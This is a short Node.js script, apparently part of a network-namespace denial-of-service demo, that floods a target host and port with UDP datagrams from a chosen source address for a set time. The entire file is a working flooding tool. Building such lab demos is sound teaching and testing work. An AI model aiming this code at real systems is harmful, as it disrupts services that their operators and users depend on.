/**
 * A UDP flood for the DoS demo: `node flood.js HOST PORT FROM SECONDS` sends datagrams from address
 * FROM as fast as it can for SECONDS and prints how many it sent. Run inside the attacker's namespace.
 */
import { createSocket } from "node:dgram";

const [host, port, from, seconds] = process.argv.slice(2);
const socket = createSocket(host?.includes(":") ? "udp6" : "udp4");
const payload = Buffer.alloc(64, 0x61);
const end = Date.now() + Number(seconds) * 1000;
let sent = 0;
socket.bind(0, from, () => {
  const burst = () => {
    for (let i = 0; i < 64; i++) socket.send(payload, Number(port), host, () => sent++);
    if (Date.now() < end) setImmediate(burst);
    else setTimeout(() => socket.close(() => console.log(String(sent))), 200);
  };
  burst();
});
